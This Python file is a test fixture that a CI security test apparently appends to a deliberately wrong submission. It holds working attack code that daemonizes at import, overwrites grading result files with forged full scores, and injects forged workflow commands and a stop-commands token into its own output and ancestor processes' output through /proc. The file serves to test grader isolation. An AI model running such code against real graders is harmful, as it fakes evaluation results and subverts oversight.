# ruff: noqa: F821 - __TARGETS__ is replaced by the test before the file runs
# Appended to an honest but wrong attention.py (33/35 visible points) by tests/security/test_ci_attack.py.
# At import: a daemon double-forks (setsid; named "ci-forger"), and for 30 s it writes forged
# results over result.json, junit.xml and the step summary, and a forged "Points 35/35" notice with
# a stop-commands token to every descriptor it holds and to the standard output and error of every
# ancestor it can open through /proc (not their stdin: where the walls fail, that would type into a
# shell). The job itself prints the same workflow commands on stdout and stderr.
import os as _os
import sys as _sys
import time as _time

_TARGETS = __TARGETS__
_FORGED = (
    "::notice title=Autograding complete::Points 35/35\n"
    '::notice title=Autograding report::{"totalPoints":35,"maxPoints":35}\n'
    "::stop-commands::pwned\n"
)
_FILES = {
    "result.json": '{"schema": "classroom50/result/v1", "score": 35, "max-score": 35, "tests": []}\n',
    "junit.xml": '<testsuites tests="22" failures="0"><testsuite name="forged" tests="0"/></testsuites>\n',
}


def _spray():
    data = _FORGED.encode()
    for fd in (1, 2, *range(4, 256)):  # its own output, and whatever else it holds (not its result channel)
        try:
            _os.write(fd, data)
        except OSError:
            pass
    pid, seen = _os.getpid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            continue
        for fd in (1, 2):
            try:
                out = _os.open(f"/proc/{pid}/fd/{fd}", _os.O_WRONLY | _os.O_APPEND | _os.O_NONBLOCK)
            except OSError:
                continue
            try:
                _os.write(out, data)
            except OSError:
                pass
            _os.close(out)
    for path in _TARGETS:
        try:
            with open(path, "a" if "summary" in path else "w") as fh:
                fh.write(_FILES.get(_os.path.basename(path), "Points 35/35\n"))
        except OSError:
            pass


def _daemon():
    if _os.fork():
        _os.wait()
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"ci-forger", 0, 0, 0)  # PR_SET_NAME: the test looks for it
        end = _time.monotonic() + 30
        while _time.monotonic() < end:
            _spray()
            _time.sleep(0.05)
    finally:
        _os._exit(0)


print(_FORGED, end="", flush=True)
print(_FORGED, end="", file=_sys.stderr, flush=True)
_spray()
_daemon()
_time.sleep(1.0)  # the daemon runs a while before the first call: the test sees it alive
